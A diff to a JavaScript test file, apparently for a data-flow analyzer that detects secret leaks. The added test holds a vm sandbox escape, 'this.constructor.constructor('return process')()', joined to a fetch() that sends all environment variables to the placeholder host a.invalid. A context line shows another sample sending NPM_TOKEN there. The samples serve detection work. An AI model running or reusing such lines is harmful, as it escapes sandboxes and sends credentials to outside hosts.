@@ -20,6 +20,13 @@ describe('a worker', () => {
 });
 
 describe('a script of a virtual machine', () => {
+  it('gets out of its context by what has made that', () => {
+    const code = `const all = require('vm').runInNewContext("this.constructor.constructor('return process')()");`;
+    assert.deepEqual(flowsOf(`${code} fetch('https://a.invalid/?' + JSON.stringify(all.env));`), [
+      'environment>network@a.invalid',
+    ]);
+  });
+
   it('gives what it is, for whoever calls that', () => {
     const sends = JSON.stringify(
       `(function (load) { load('https').get('https://a.invalid/' + process.env.NPM_TOKEN); })`,
